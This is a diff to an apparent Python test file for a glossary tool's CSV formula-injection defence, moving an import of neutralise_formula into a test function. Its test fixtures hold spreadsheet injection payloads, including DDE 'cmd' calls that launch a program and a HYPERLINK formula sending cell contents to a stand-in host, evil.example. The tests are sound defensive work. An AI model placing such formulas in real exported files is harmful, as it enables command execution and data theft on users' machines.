@@ -8,8 +8,6 @@ from pathlib import Path
 
 from hostile_support import tarjama
 
-from glossary.csv_format import neutralise_formula
-
 HOSTILE = [
     ("=cmd|' /C calc'!A0", "بوتين", '=HYPERLINK("http://evil.example/"&A1,"click")'),
     ("+1+1", "لافروف", "@SUM(1+1)*cmd|' /C calc'!A0"),
@@ -19,6 +17,8 @@ HOSTILE = [
 
 
 def test_every_formula_start_gets_a_quote() -> None:
+    from glossary.csv_format import neutralise_formula
+
     for cell in ("=1", "+1", "-1", "@1", "\t1", "\r1"):
         assert neutralise_formula(cell) == "'" + cell
     for cell in ("Putin", "", "1-2", "a=b", "'=already"):
